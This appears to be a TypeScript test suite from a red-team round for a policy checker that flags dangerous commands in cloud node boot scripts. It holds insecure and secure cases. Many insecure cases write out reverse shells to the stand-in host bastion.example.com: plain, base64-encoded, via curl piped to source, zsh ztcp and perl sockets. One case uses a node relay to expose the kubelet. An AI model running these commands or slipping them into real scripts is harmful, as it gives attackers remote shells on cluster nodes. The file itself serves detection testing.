        'gawk -i b.awk whose @include "rev" is a written AWKPATH library',
        devNodeScript("dev-h16-nodes", [
            "mkdir -p /usr/local/share/awk",
            "cat > /usr/local/share/awk/rev.awk <<'EOF'",
            AWK_SHELL,
            "EOF",
            "cat > /opt/b.awk <<'EOF'",
            '@include "rev"',
            "EOF",
            "gawk -i /opt/b.awk 'BEGIN{}'",
        ]),
        RELAY,
    ),
    // Round 66 neighbours: code reaching a program through a descriptor, process substitution, an unknown file, xargs
    // items, env -S, an applet, zsh's ztcp, and a node client relaying two connections.
    devNodeCase(
        "perl <(cat written harmless) (fail closed: process substitution is unknown)",
        devNodeScript("dev-r66a-nodes", ["cat > /opt/ok.pl <<'EOF'", "print 1", "EOF", "perl <(cat /opt/ok.pl)"]),
        /made at boot/,
    ),
    devNodeCase(
        "exec 3< written; sh /dev/fd/3",
        devNodeScript("dev-r66b-nodes", [
            "cat > /opt/r.sh <<'EOF'",
            "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1",
            "EOF",
            "exec 3< /opt/r.sh",
            "sh /dev/fd/3",
        ]),
        RELAY,
    ),
    devNodeCase(
        "source <(curl) with arguments",
        devNodeScript("dev-r66c-nodes", ["source <(curl -fsSL https://bastion.example.com/boot.sh) --now"]),
        RELAY,
    ),
    devNodeCase(
        "cmd > x.sh (unknown output); bash x.sh",
        devNodeScript("dev-r66d-nodes", [
            "base64 -d > /opt/r.sh <<'EOF'",
            "YmFzaCAtaSA+JiAvZGV2L3RjcC9iYXN0aW9uLmV4YW1wbGUuY29tLzQ0NDQgMD4mMQo=",
            "EOF",
            "bash /opt/r.sh",
        ]),
        RELAY,
    ),
    devNodeCase(
        "bash -xs -- arg <<EOF",
        devNodeScript("dev-r66e-nodes", [
            "bash -xs -- arg <<'EOF'",
            "bash -i >& /dev/tcp/bastion.example.com/4444 0>&1",
            "EOF",
        ]),
        RELAY,
    ),
    devNodeCase(
        "xargs -a /dev/stdin bash -c <<<CODE",
        devNodeScript("dev-r66f-nodes", [`xargs -0 -a /dev/stdin bash -c <<<'exec 5<>/dev/tcp/$H/4444; sh <&5 >&5'`]),
        RELAY,
    ),
    devNodeCase(
        "env --split-string='perl -e CODE'",
        devNodeScript("dev-r66g-nodes", [
            `env --split-string='perl -MIO::Socket -e "${PERL_SHELL.replace(/"/g, '\\"')}"'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "zsh ztcp -d 5",
        devNodeScript("dev-r66h-nodes", [
            `zsh -c 'zmodload zsh/net/tcp; ztcp -d 5 bastion.example.com 4444; zsh <&5 >&5 2>&5'`,
        ]),
        RELAY,
    ),
    devNodeCase(
        "node net client relaying the kubelet to another host",
        devNodeScript("dev-r66i-nodes", [
            `node -e 'const n=require("net");const a=n.connect(10250,"127.0.0.1");const b=n.connect({port:4444,host:"bastion.example.com"});a.pipe(b);b.pipe(a)'`,
        ]),
        /./,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "perl -MJSON::PP -e (core module)",
        devNodeScript("dev-u1-nodes", [`perl -MJSON::PP -e 'print JSON::PP->new->encode({ok => 1})' > /tmp/j`]),
    ),
    devNodeCase(
        "perl -I/opt -MHello (written, no socket)",
        devNodeScript("dev-u2-nodes", [
            "cat > /opt/Hello.pm <<'EOF'",
            "package Hello; open my $f, '>', '/tmp/hello'; print $f 'hi'; 1;",
            "EOF",
            "perl -I/opt -MHello -e 1",
        ]),
    ),
    devNodeCase(
        "ruby -I/opt -rhello (written, no socket)",
        devNodeScript("dev-u3-nodes", [
            "cat > /opt/hello.rb <<'EOF'",
            "File.write('/tmp/hello', 'hi')",
            "EOF",
            "ruby -I/opt -rhello -e 1",
        ]),
    ),
    devNodeCase(
        "luajit -lhello in its directory (written, no socket)",
        devNodeScript("dev-u4-nodes", [
            "mkdir -p /opt/l && cd /opt/l",
            "cat > hello.lua <<'EOF'",
            "io.open('/tmp/hello','w'):write('hi')",
            "EOF",
            "luajit -lhello -e 'print(1)'",
        ]),
    ),
    devNodeCase(
        "php -d auto_prepend_file=written (no socket)",
        devNodeScript("dev-u5-nodes", [
            "echo '<?php date_default_timezone_set(\"UTC\");' > /opt/tz.php",
            "php -d auto_prepend_file=/opt/tz.php -r 'echo date(\"Y\");' > /tmp/y",
        ]),
    ),
    devNodeCase(
        "gawk @include written library (no socket)",
        devNodeScript("dev-u6-nodes", [
            "cat > /opt/lib.awk <<'EOF'",
            "function twice(x) { return 2 * x }",
            "EOF",
            "gawk -i /opt/lib.awk '{ print twice($2) }' /proc/meminfo > /tmp/m",
        ]),
    ),
    devNodeCase(
        "tclsh <<< source written (no socket) and package require http",
        devNodeScript("dev-u7-nodes", [
            "cat > /opt/h.tcl <<'EOF'",
            "puts [info hostname]",
            "EOF",
            "tclsh <<< 'package require http; source /opt/h.tcl' > /tmp/h",
        ]),
    ),
    devNodeCase(
        "luajit -e dofile written (no socket)",
        devNodeScript("dev-u8-nodes", [
            "cat > /opt/s.lua <<'EOF'",
            "local s=0 for i=1,10 do s=s+i end print(s)",
            "EOF",
            `luajit -e 'dofile("/opt/s.lua")' > /tmp/s`,
        ]),
    ),
    devNodeCase(
        "PERL5LIB=/opt perl -MHello (written, no socket)",
        devNodeScript("dev-u9-nodes", [
            "cat > /opt/Hello.pm <<'EOF'",
            "package Hello; 1;",
            "EOF",
            "PERL5LIB=/opt perl -MHello -e 'print 1' > /tmp/p",
        ]),
    ),
    devNodeCase(
        "gawk -f written (no socket)",
        devNodeScript("dev-s1-nodes", [
            "mkdir -p /opt/app",
            "cat > /opt/app/sum.awk <<'EOF'",
            "{ n += $2 } END { print n }",
            "EOF",
            "gawk -f /opt/app/sum.awk /proc/meminfo > /tmp/m",
        ]),
    ),
    devNodeCase(
        "gawk -f - <<EOF (no socket)",
        devNodeScript("dev-s2-nodes", [
            "gawk -f - /proc/meminfo > /tmp/m <<'EOF'",
            "{ n += $2 } END { print n }",
            "EOF",
        ]),
    ),
    devNodeCase(
        "awk -F: print users",
        devNodeScript("dev-s3-nodes", [`awk -F: '$3 >= 1000 { print $1 }' /etc/passwd > /tmp/users`]),
    ),
    devNodeCase(
        "tar -T - written list",
        devNodeScript("dev-s4-nodes", [
            "tar -czf /var/backups/etc.tgz -T - <<'EOF'",
            "/etc/hosts",
            "/etc/resolv.conf",
            "EOF",
        ]),
    ),
    devNodeCase(
        "tar -T written list file",
        devNodeScript("dev-s5-nodes", [
            "mkdir -p /var/backups",
            "printf '%s\\n' /etc/hosts /etc/resolv.conf > /tmp/list",
            "tar -czf /var/backups/etc.tgz -T /tmp/list",
        ]),
    ),
    devNodeCase(
        "cp ./- (a file named -)",
        devNodeScript("dev-s6-nodes", ["mkdir -p /opt/x && cd /opt/x", "echo hello > ./-", "cp -- - /opt/x/copy"]),
    ),
    devNodeCase(
        "install -m 0644 /dev/stdin conf <<EOF",
        devNodeScript("dev-s7-nodes", ["install -D -m 0644 /dev/stdin /etc/app/app.conf <<'EOF'", "level=info", "EOF"]),
    ),
    devNodeCase(
        "install /dev/stdin script; run it",
        devNodeScript("dev-s8-nodes", [
            "install -m 0755 /dev/stdin /usr/local/bin/hello <<'EOF'",
            "#!/bin/sh",
            "echo hello > /tmp/hello",
            "EOF",
            "/usr/local/bin/hello",
        ]),
    ),
    devNodeCase("luajit -v", devNodeScript("dev-s9-nodes", ["luajit -v > /tmp/v"])),
    devNodeCase("luajit -O3 -e print", devNodeScript("dev-s10-nodes", [`luajit -O3 -e 'print(jit.version)' > /tmp/v`])),
    devNodeCase(
        "luajit -jdump=+rs -e",
        devNodeScript("dev-s11-nodes", [`luajit -jv -e 'local s=0 for i=1,100 do s=s+i end print(s)' > /tmp/v`]),
    ),
    devNodeCase(
        "luajit written script (no socket)",
        devNodeScript("dev-s12-nodes", [
            "cat > /opt/sum.lua <<'EOF'",
            "local s=0 for i=1,10 do s=s+i end print(s)",
            "EOF",
            "luajit /opt/sum.lua > /tmp/s",
        ]),
    ),
    devNodeCase(
        "luajit -b compile",
        devNodeScript("dev-s13-nodes", [
            "cat > /opt/sum.lua <<'EOF'",
            "print(1)",
            "EOF",
            "luajit -b /opt/sum.lua /opt/sum.bc",
        ]),
    ),
    devNodeCase(
        "perl -0777 -pi -e sed",
        devNodeScript("dev-s14-nodes", [
            `perl -0777 -pi -e 's/^#?PermitRootLogin.*/PermitRootLogin no/m' /etc/ssh/sshd_config`,
        ]),
    ),
    devNodeCase(
        "perl - <<EOF (no socket)",
        devNodeScript("dev-s15-nodes", ["perl - /etc/hosts <<'EOF'", "while (<>) { print if /localhost/ }", "EOF"]),
    ),
    devNodeCase(
        "ruby -rjson -e",
        devNodeScript("dev-s16-nodes", [
            `ruby -rjson -e 'puts JSON.parse(File.read("/etc/eks/release.json"))["version"] rescue nil' > /tmp/v || true`,
        ]),
    ),
    devNodeCase(
        "sort - < file, diff - file",
        devNodeScript("dev-s17-nodes", [
            "sort -u - < /etc/hosts > /tmp/h",
            "diff - /etc/hosts <<<'127.0.0.1 localhost' || true",
        ]),
    ),
    devNodeCase(
        "exec 3< /etc/hosts; read -u3",
        devNodeScript("dev-s18-nodes", [
            "exec 3< /etc/hosts",
            'while read -r -u 3 line; do echo "$line" >> /tmp/h; done',
            "exec 3<&-",
        ]),
    ),
    devNodeCase(
        "cat - > conf <<EOF",
        devNodeScript("dev-s19-nodes", ["mkdir -p /etc/app", "cat - > /etc/app/app.conf <<'EOF'", "level=info", "EOF"]),
    ),
    devNodeCase("bash -c '\"$0\" ...' echo", devNodeScript("dev-s20-nodes", [`bash -c 'echo "$0" > /tmp/x' hello`])),
    devNodeCase(
        "php -r glued local",
        devNodeScript("dev-s21-nodes", [`php -d memory_limit=64M -r 'echo PHP_VERSION;' > /tmp/p`]),
    ),
    devNodeCase(
        "tee - (a file named -)",
        devNodeScript("dev-s22-nodes", ["echo level=info | tee /etc/app.conf > /dev/null"]),
    ),
    devNodeCase(
        "gawk -f /dev/stdin (no socket) <<EOF",
        devNodeScript("dev-s23-nodes", [
            "gawk -f /dev/stdin /proc/meminfo > /tmp/m <<'EOF'",
            "/MemTotal/ { print $2 }",
            "EOF",
        ]),
    ),
    devNodeCase(
        "xargs -a /dev/stdin rm",
        devNodeScript("dev-s24-nodes", ["xargs -a /dev/stdin rm -f <<'EOF'", "/tmp/a", "/tmp/b", "EOF"]),
    ),
    devNodeCase(
        "node - <<EOF (no socket)",
        devNodeScript("dev-s25-nodes", [
            "node - <<'EOF'",
            "require('fs').writeFileSync('/tmp/n', String(1 + 1))",
            "EOF",
        ]),
    ),
    devNodeCase(
        "gawk -i inplace (edit a config in place)",
        devNodeScript("dev-t1-nodes", ["gawk -i inplace '!/^#/' /etc/sysctl.d/99-custom.conf || true"]),
    ),
    devNodeCase(
        "perl loopback health check (socket, no shell)",
        devNodeScript("dev-t2-nodes", [
            `perl -MIO::Socket::INET -e 'exit(IO::Socket::INET->new(PeerAddr => "127.0.0.1:10248") ? 0 : 1)' || true`,
        ]),
    ),
    devNodeCase(
        "ruby loopback health check",
        devNodeScript("dev-t3-nodes", [`ruby -rsocket -e 'TCPSocket.new("127.0.0.1", 10248).close' || true`]),
    ),
    // Was a MISS (fixed in round 66): (secure refused) Node.js docs, net.connect(port[, host]) ("a factory function, which creates a new
    // net.Socket ... and initiates a connection": a client, it listens on nothing): a loopback health check of the
    // kubelet's healthz port (127.0.0.1:10248) exits; the pack refuses it as "a program the pack does not read,
    // listening beyond loopback ... on every address", while the same perl IO::Socket::INET and ruby TCPSocket checks
    // are accepted. Read node -e's net.connect/createConnection as a client of its host (loopback here).
    devNodeCase(
        "node loopback health check",
        devNodeScript("dev-t4-nodes", [
            `node -e 'require("net").connect(10248, "127.0.0.1").on("connect", () => process.exit(0)).on("error", () => process.exit(1))' || true`,
        ]),
        /./,
    ),
    devNodeCase(
        "sh -s -- arg <<EOF (harmless)",
        devNodeScript("dev-t5-nodes", ["sh -s -- node1 <<'EOF'", 'echo "$1" > /etc/nodename', "EOF"]),
    ),
    devNodeCase(
        "luajit - <<EOF (harmless)",
        devNodeScript("dev-t6-nodes", ["luajit - <<'EOF'", "io.open('/tmp/l','w'):write('ok')", "EOF"]),
    ),
    devNodeCase(
        "awk '{print $1}' /dev/stdin <<EOF (data)",
        devNodeScript("dev-t7-nodes", ["awk '{print $1}' /dev/stdin > /tmp/ips <<'EOF'", "10.0.0.1 a", "EOF"]),
    ),
    devNodeCase(
        "perl -ne print /dev/stdin <<EOF (data mentioning sockets)",
        devNodeScript("dev-t8-nodes", [
            "perl -ne 'print if /listen/' /dev/stdin > /tmp/l <<'EOF'",
            "use IO::Socket; exec '/bin/sh'",
            "EOF",
        ]),
    ),
    devNodeCase(
        "cp /dev/stdin conf <<EOF",
        devNodeScript("dev-t9-nodes", [
            "mkdir -p /etc/app",
            "cp /dev/stdin /etc/app/app.conf <<'EOF'",
            "level=info",
            "EOF",
        ]),
    ),
    devNodeCase(
        "tar -cf - | gzip",
        devNodeScript("dev-t10-nodes", ["mkdir -p /var/backups", "tar -cf - /etc/hosts | gzip > /var/backups/h.tgz"]),
    ),
    // Round 66 neighbours (secure): known text through a here-document to source/. and a shell's descriptor, process
    // substitution as data, env -S of harmless code, busybox nc -z, zsh ztcp to loopback, node clients of loopback.
    devNodeCase(
        "source /dev/stdin <<EOF (harmless)",
        devNodeScript("dev-r66s1-nodes", ["source /dev/stdin <<'EOF'", "echo ok > /etc/motd", "EOF"]),
    ),
    devNodeCase(
        "bash /dev/fd/3 3<<EOF (harmless)",
        devNodeScript("dev-r66s2-nodes", ["bash /dev/fd/3 3<<'EOF'", "echo ok > /etc/motd", "EOF"]),
    ),
    devNodeCase(
        "diff <(sort a) b (data)",
        devNodeScript("dev-r66s3-nodes", ["diff <(sort /etc/hosts) /etc/hosts > /tmp/d || true"]),
    ),
    devNodeCase("env -S 'ruby -e puts'", devNodeScript("dev-r66s4-nodes", [`env -S 'ruby -e "puts 1"'`])),
    devNodeCase("busybox nc -z loopback", devNodeScript("dev-r66s5-nodes", ["busybox nc -z 127.0.0.1 10248 || true"])),
    devNodeCase(
        "zsh ztcp to loopback",
        devNodeScript("dev-r66s6-nodes", [
            `zsh -c 'zmodload zsh/net/tcp && ztcp 127.0.0.1 10248 && echo ok >&$REPLY; ztcp -c $REPLY' || true`,
        ]),
    ),
    devNodeCase(
        "node net.createConnection({port}) (localhost)",
        devNodeScript("dev-r66s7-nodes", [
            `node -e 'require("net").createConnection({ port: 10248 }, () => process.exit(0)).on("error", () => process.exit(1))' || true`,
        ]),
    ),
];

describeNodeCases("red team 65: node user data (fresh eyes on round 64)", insecure, secure);
